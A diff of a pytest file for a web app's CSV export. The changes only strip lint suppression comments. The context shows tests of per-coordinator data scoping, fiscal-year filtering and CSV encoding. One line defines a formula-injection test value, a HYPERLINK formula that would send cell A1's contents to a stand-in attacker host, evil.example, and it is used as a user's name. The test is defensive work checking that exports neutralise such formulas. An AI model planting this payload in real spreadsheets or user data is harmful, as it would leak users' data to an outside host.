@@ -20,7 +20,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 @pytest.fixture
 def make(app):
-    def _make(fn):  # noqa: ANN001, ANN202
+    def _make(fn):
         with app.app_context():
             value = fn()
             db.session.commit()
@@ -33,7 +33,7 @@ def make(app):
 def shared(make, world):
     """A shared session with A's two employees, B's employee and A's formula-named colleague."""
 
-    def setup():  # noqa: ANN202
+    def setup():
         ts = factories.make_session(capacity=2)
         evil = factories.make_user(world.muni_a, name=EVIL)
         for employee in (world.employee_a, world.employee_b, world.employee_a2, evil.id):
@@ -43,7 +43,7 @@ def shared(make, world):
     return make(setup)
 
 
-def read_csv(resp) -> list[list[str]]:  # noqa: ANN001
+def read_csv(resp) -> list[list[str]]:
     raw = resp.get_data()
     assert raw.startswith("\ufeff".encode()), "UTF-8 with a byte-order mark, for Excel"
     assert b"\r\n" in raw
@@ -119,7 +119,7 @@ def test_coordinator_b_download_has_only_b(as_coordinator_b, shared):
 
 
 def test_fiscal_year_download_covers_that_year_only(as_coordinator_a, world, make):
-    def setup():  # noqa: ANN202
+    def setup():
         this_year = factories.make_session(starts_in=timedelta(days=5))
         long_ago = factories.make_session(
             starts_in=timedelta(days=-800),
@@ -148,7 +148,7 @@ def test_a_bad_fiscal_year_is_explained(as_coordinator_a):
 
 
 def test_the_download_can_be_filled_in_and_uploaded_as_attendance(as_admin, world, make, app):
-    def setup():  # noqa: ANN202
+    def setup():
         ts = factories.make_session(
             starts_in=timedelta(hours=-1), opens_in=timedelta(days=-5), closes_in=timedelta(days=-1)
         )
